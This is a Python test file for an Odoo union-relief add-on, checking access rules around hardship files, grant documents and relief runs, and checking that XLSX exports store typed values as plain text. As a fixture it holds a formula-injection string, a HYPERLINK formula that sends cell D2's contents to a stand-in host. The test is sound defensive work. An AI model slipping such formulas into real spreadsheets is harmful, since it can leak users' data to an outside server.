import io

import openpyxl

from odoo import Command
from odoo.exceptions import AccessError, ValidationError
from odoo.tests import HttpCase, new_test_user, tagged

from .common import UnionReliefCommon
from .common_donation import UnionDonationCommon
from .common_relief import UnionReliefAccountingCommon


@tagged("post_install", "-at_install")
class TestEmployeeHardshipLink(UnionReliefCommon):
    """Who has a hardship file is sensitive: an HR user outside the officers
    can neither search, group nor export employees by it (doc/domain.md §8)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.file_a = cls._create_file(cls.employee_a, serial=1)
        cls.file_b = cls._create_file(cls.employee_b, serial=2)
        hr_groups = "hr.group_hr_user,base.group_allow_export,"
        # accountants and auditors who also keep the HR records
        cls.hr_accountant = new_test_user(
            cls.env, login="hr_accountant", groups=hr_groups + "union_relief.group_union_accountant"
        )
        cls.hr_auditor = new_test_user(
            cls.env, login="hr_auditor", groups=hr_groups + "union_relief.group_union_auditor"
        )
        cls.hr_officer = new_test_user(
            cls.env, login="hr_officer", groups=hr_groups + "union_relief.group_union_officer"
        )
        cls.hr_officer.union_organization_ids = [Command.set(cls.org_branch_a.ids)]

    def test_hr_users_outside_the_officers_cannot_search_by_the_files(self):
        for user in (self.hr_user, self.hr_accountant, self.hr_auditor):
            Employee = self.env["hr.employee"].with_user(user)
            for domain in (
                [("union_hardship_file_ids", "!=", False)],
                [("union_hardship_file_ids", "=", self.file_a.id)],
                [("union_hardship_file_ids", "in", (self.file_a | self.file_b).ids)],
                [("union_hardship_file_count", ">", 0)],
            ):
                with self.assertRaises(AccessError, msg="%s searches %s" % (user.login, domain)):
                    Employee.search(domain)
                with self.assertRaises(AccessError, msg="%s counts %s" % (user.login, domain)):
                    Employee.search_count(domain)
            with self.assertRaises(AccessError, msg=user.login):
                Employee.read_group(
                    [("union_hardship_file_ids", "!=", False)], ["department_id"], ["department_id"]
                )
            with self.assertRaises(AccessError, msg=user.login):
                Employee._read_group([("union_hardship_file_count", ">", 0)], [], ["__count"])
            employees = Employee.search([("id", "in", (self.employee_a | self.employee_b).ids)])
            for field_name in ("union_hardship_file_ids", "union_hardship_file_count"):
                with self.assertRaises(AccessError, msg="%s exports %s" % (user.login, field_name)):
                    employees.export_data(["name", field_name])
                with self.assertRaises(AccessError, msg="%s reads %s" % (user.login, field_name)):
                    employees.read([field_name])

    def test_officer_finds_the_workers_of_the_files_they_see(self):
        Employee = self.env["hr.employee"].with_user(self.hr_officer)
        self.assertEqual(Employee.search([("union_hardship_file_ids", "!=", False)]), self.employee_a)
        self.assertEqual(Employee.search([("union_hardship_file_count", ">", 0)]), self.employee_a)
        self.assertEqual(Employee.search([("union_hardship_file_ids", "=", self.file_a.id)]), self.employee_a)
        self.assertFalse(Employee.search([("union_hardship_file_ids", "=", self.file_b.id)]))
        self.assertNotIn(self.employee_a, Employee.search([("union_hardship_file_ids", "=", False)]))
        self.assertIn(self.employee_b, Employee.search([("union_hardship_file_ids", "=", False)]))
        employee = self.employee_a.with_user(self.hr_officer)
        self.assertEqual(employee.union_hardship_file_ids, self.file_a)
        self.assertEqual(employee.union_hardship_file_count, 1)
        self.assertEqual(self.employee_b.with_user(self.hr_officer).union_hardship_file_count, 0)


@tagged("post_install", "-at_install")
class TestReliefBatchRules(UnionReliefAccountingCommon):
    """A run names the households it left out: officers see the runs of their
    organisations only."""

    def _run(self, user, organizations=None):
        wizard = self.env["union.relief.batch.wizard"].with_user(user).create({
            "programme_id": self.living.id,
            "organization_ids": [Command.set(organizations.ids if organizations else [])],
        })
        return self.env["union.relief.batch"].browse(wizard.action_create_grants()["res_id"])

    def test_officers_see_and_handle_the_runs_of_their_organisations_only(self):
        run_a = self._run(self.officer_a)
        self.assertEqual(run_a.household_organization_ids, self.org_branch_a)
        run_all = self._run(self.centre_officer)
        self.assertEqual(run_all.household_organization_ids, self.org_branch_a | self.org_branch_b)
        officer_ab = new_test_user(self.env, login="officer_ab", groups="union_relief.group_union_officer")
        officer_ab.union_organization_ids = [Command.set((self.org_branch_a | self.org_branch_b).ids)]
        runs = run_a | run_all
        Batch = self.env["union.relief.batch"]
        for user, visible in (
            (self.officer_a, run_a),
            (self.officer_b, Batch),
            (officer_ab, runs),
            (self.centre_officer, runs),
            (self.manager, runs),
            (self.accountant, runs),
            (self.auditor, runs),
        ):
            self.assertEqual(Batch.with_user(user).search([("id", "in", runs.ids)]), visible, user.login)
            for hidden in runs - visible:
                with self.assertRaises(AccessError, msg="%s reads %s" % (user.login, hidden.name)):
                    hidden.with_user(user).read(["excluded_note"])
        for user, run in ((self.officer_b, run_a), (self.officer_a, run_all)):
            with self.assertRaises(AccessError, msg="%s changes %s" % (user.login, run.name)):
                run.with_user(user).check_access("write")
            with self.assertRaises(AccessError, msg="%s submits %s" % (user.login, run.name)):
                run.with_user(user).action_submit()
        run_a.with_user(self.officer_a).check_access("write")

    def test_officer_opens_their_grant_of_a_wider_run(self):
        run_all = self._run(self.centre_officer)
        grant_a = run_all.grant_ids.filtered(lambda g: g.file_id == self.file_a)
        values = grant_a.with_user(self.officer_a).web_read(
            {"name": {}, "batch_id": {"fields": {"display_name": {}}}}
        )
        self.assertEqual(values[0]["batch_id"]["display_name"], run_all.name)


@tagged("post_install", "-at_install")
class TestGrantDocuments(UnionReliefAccountingCommon):
    """A grant's supporting documents (medical bills) are read by officers only."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.grant = cls.env["union.relief.grant"].with_user(cls.officer_a).create({
            "programme_id": cls.living.id, "file_id": cls.file_a.id, "cost_amount": 100.0,
        })
        Attachment = cls.env["ir.attachment"].with_user(cls.officer_a)
        # as the form's upload does: bound to the grant, then linked
        cls.uploaded = Attachment.create({
            "name": "住院发票.pdf", "raw": b"bill", "res_model": "union.relief.grant",
            "res_id": cls.grant.id,
        })
        cls.grant.with_user(cls.officer_a).write({
            "attachment_ids": [
                Command.link(cls.uploaded.id),
                Command.create({"name": "诊断证明.pdf", "raw": b"diagnosis"}),
            ],
        })
        cls.documents = cls.grant.attachment_ids

    def test_only_officers_of_the_grant_read_its_documents(self):
        self.assertEqual(len(self.documents), 2)
        self.env.invalidate_all()
        officer_documents = self.grant.with_user(self.officer_a).attachment_ids
        self.assertEqual(officer_documents, self.documents)
        self.assertEqual(sorted(officer_documents.mapped("raw")), [b"bill", b"diagnosis"])
        for user in (self.accountant, self.auditor, self.officer_b):
            self.env.invalidate_all()
            with self.assertRaises(AccessError, msg=user.login):
                self.grant.with_user(user).read(["attachment_ids"])
            for document in self.documents:
                self.env.invalidate_all()
                with self.assertRaises(AccessError, msg="%s reads %s" % (user.login, document.name)):
                    document.with_user(user).read(["raw"])
                self.env.invalidate_all()
                with self.assertRaises(AccessError, msg="%s reads %s" % (user.login, document.name)):
                    document.with_user(user).read(["name"])
            Attachment = self.env["ir.attachment"].with_user(user)
            for domain in (
                [("res_model", "=", "union.relief.grant"), ("res_id", "=", self.grant.id)],
                [("id", "in", self.documents.ids)],
                [("res_field", "=", "attachment_ids")],
                [("name", "in", self.documents.mapped("name"))],
            ):
                self.assertFalse(Attachment.search(domain), "%s finds %s" % (user.login, domain))
                self.assertFalse(Attachment.search_count(domain), "%s counts %s" % (user.login, domain))

    def test_documents_of_other_records_stay_theirs(self):
        contract_document = self.env["ir.attachment"].create({
            "name": "合同.pdf", "raw": b"contract", "res_model": "res.partner",
            "res_id": self.env.user.partner_id.id,
        })
        self.grant.write({"attachment_ids": [Command.link(contract_document.id)]})
        self.assertEqual(contract_document.res_model, "res.partner")
        self.assertFalse(contract_document.res_field)


@tagged("post_install", "-at_install")
class TestDuplicateResidentId(UnionReliefCommon):
    """One household, one file: the check does not tell an officer about the
    files of organisations they do not see."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.file_b = cls._create_file(cls.employee_b, serial=7)

    def _create_as(self, user, employee):
        File = self.env["union.hardship.file"].with_user(user)
        return File.create(self._file_vals(employee, serial=7))

    def test_file_of_another_organisation_is_not_named(self):
        with self.assertRaisesRegex(ValidationError, "another organisation") as caught:
            self._create_as(self.officer_a, self.employee_a)
        message = caught.exception.args[0]
        self.assertIn("relief centre", message)
        self.assertNotIn(self.file_b.name, message)
        self.assertNotIn(self.org_branch_b.name, message)
        self.assertNotIn(self.employee_b.name, message)
        self.assertNotIn(self.file_b.identification_number, message)

    def test_file_the_officer_sees_is_named(self):
        with self.assertRaisesRegex(ValidationError, self.file_b.name):
            self._create_as(self.centre_officer, self.employee_a)


@tagged("post_install", "-at_install")
class TestPublicAccountReport(HttpCase, UnionDonationCommon):
    """Members print the public account of the campaigns the portal shows them."""

    REPORT = "union_relief.report_union_donation_public_account"

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.draft = cls._create_campaign(open_it=False, name="筹备中的捐款")
        cls.officer_bureau = new_test_user(
            cls.env, login="officer_bureau", groups="union_relief.group_union_officer"
        )
        cls.officer_bureau.union_organization_ids = [Command.set(cls.org_bureau.ids)]

    def _render(self, user, campaign):
        html = self.env["ir.actions.report"].with_user(user)._render_qweb_html(self.REPORT, campaign.ids)[0]
        return html.decode()

    def test_member_cannot_print_a_draft_campaign(self):
        for route in ("pdf", "html"):
            self.authenticate(self.member.login, self.member.login)
            url = "/report/%s/%s/%s" % (route, self.REPORT, "%s")
            response = self.url_open(url % self.campaign.id)
            self.assertEqual(response.status_code, 200, route)
            self.assertIn(self.campaign.name, response.text)
            response = self.url_open(url % self.draft.id)
            self.assertEqual(response.status_code, 403, route)
            self.assertNotIn("o_union_public_totals", response.text)
        for user in (self.member, self.accountant, self.auditor, self.officer_a):
            with self.assertRaises(AccessError, msg=user.login):
                self._render(user, self.draft)
            with self.assertRaises(AccessError, msg=user.login):
                self._render(user, self.draft | self.campaign)

    def test_who_runs_a_draft_campaign_previews_its_account(self):
        self.assertIn(self.campaign.name, self._render(self.member, self.campaign))
        for user in (self.officer_bureau, self.manager):
            self.assertIn(self.draft.name, self._render(user, self.draft), user.login)


FORMULA = '=HYPERLINK("http://x/?"&D2,"x")'


def _sheet_cells(content):
    """Every non-empty cell of the workbook's first sheet."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


@tagged("post_install", "-at_install")
class TestXlsxExports(HttpCase, UnionReliefAccountingCommon):
    """XLSX exports stream from /union_relief/xlsx/, are kept nowhere and write
    what users typed as text, never as a formula."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.employee_a.work_contact_id.name = FORMULA
        cls.file_a.bank_account_id = cls.env["res.partner.bank"].create({
            "partner_id": cls.employee_a.work_contact_id.id,
            "acc_number": "6222020200001234567",
            "bank_id": cls.env["res.bank"].create({"name": "=1+2"}).id,
        })
        wizard = cls.env["union.relief.batch.wizard"].with_user(cls.centre_officer).create({
            "programme_id": cls.living.id,
            "organization_ids": [Command.set(cls.org_branch_a.ids)],
        })
        cls.batch = cls.env["union.relief.batch"].browse(wizard.action_create_grants()["res_id"])
        cls.batch.action_submit()
        cls.batch.with_user(cls.manager).action_approve()

    def _download(self, user, url):
        self.authenticate(user.login, user.login)
        return self.url_open(url)

    def _attachment_count(self):
        return self.env["ir.attachment"].sudo().search_count([])

    def _assert_plain_text(self, content, *texts):
        cells = {cell.value: cell for cell in _sheet_cells(content)}
        for text in texts:
            self.assertIn(text, cells)
            self.assertEqual(cells[text].data_type, "s", text)
        self.assertFalse([cell for cell in cells.values() if cell.data_type == "f"])

    def test_bank_transfer_list_streams_plain_text(self):
        before = self._attachment_count()
        action = self.batch.with_user(self.accountant).action_bank_transfer_list()
        self.assertEqual(action["url"], "/union_relief/xlsx/union.relief.batch/%s" % self.batch.id)
        response = self._download(self.accountant, action["url"])
        self.assertEqual(response.status_code, 200)
        self.assertIn("spreadsheetml", response.headers["Content-Type"])
        self.assertIn("attachment", response.headers["Content-Disposition"])
        self._assert_plain_text(response.content, FORMULA, "=1+2", "6222020200001234567")
        self.assertEqual(self._attachment_count(), before)

    def test_relief_ledger_streams_plain_text(self):
        before = self._attachment_count()
        wizard = self.env["union.relief.ledger.wizard"].with_user(self.accountant).create({
            "period_from": self.month, "period_to": self.month,
        })
        action = wizard.action_export()
        self.assertEqual(action["type"], "ir.actions.act_url")
        response = self._download(self.accountant, action["url"])
        self.assertEqual(response.status_code, 200)
        self._assert_plain_text(response.content, FORMULA, self.batch.grant_ids[0].name)
        self.assertEqual(self._attachment_count(), before)

    def test_route_refuses_who_may_not_read_or_export(self):
        url = "/union_relief/xlsx/union.relief.batch/%s" % self.batch.id
        # another branch's officer does not see the run; the auditor reads it but
        # does not prepare payments; a member has no access to runs at all
        for user in (self.officer_b, self.auditor, self.member):
            response = self._download(user, url)
            self.assertEqual(response.status_code, 403, user.login)
            self.assertNotIn(b"6222020200001234567", response.content)
            with self.assertRaises(AccessError, msg=user.login):
                self.batch.with_user(user)._xlsx_export()
        wizard = self.env["union.relief.ledger.wizard"].with_user(self.accountant).create({})
        response = self._download(self.member, "/union_relief/xlsx/union.relief.ledger.wizard/%s" % wizard.id)
        self.assertEqual(response.status_code, 403)
        # only the add-on's exports, and only existing records
        self.assertEqual(self._download(self.manager, "/union_relief/xlsx/res.partner/1").status_code, 404)
        self.assertEqual(
            self._download(self.manager, "/union_relief/xlsx/union.relief.batch/999999").status_code, 404
        )


@tagged("post_install", "-at_install")
class TestDonationXlsxExports(UnionDonationCommon):
    def test_donation_ledger_and_payroll_list_write_names_as_text(self):
        self.employee_a.name = FORMULA
        self._donate(amount=50.0)
        payroll_donation = self._create_donations(method="payroll")
        before = self.env["ir.attachment"].sudo().search_count([])
        ledger = self.env["union.donation.ledger.wizard"].create({"campaign_ids": [Command.set(self.campaign.ids)]})
        self.assertIn("/union_relief/xlsx/union.donation.ledger.wizard/", ledger.action_export()["url"])
        self._assert_text_cell(ledger._xlsx_export()[1], FORMULA)
        payroll = self.env["union.donation.payroll"].create({"month": self.today})
        payroll.action_collect()
        self.assertIn(payroll_donation, payroll.donation_ids)
        self.assertIn("/union_relief/xlsx/union.donation.payroll/", payroll.action_export()["url"])
        self._assert_text_cell(payroll._xlsx_export()[1], FORMULA)
        self.assertEqual(self.env["ir.attachment"].sudo().search_count([]), before)

    def _assert_text_cell(self, content, text):
        cells = [cell for cell in _sheet_cells(content) if cell.value == text]
        self.assertTrue(cells, text)
        self.assertEqual({cell.data_type for cell in cells}, {"s"})
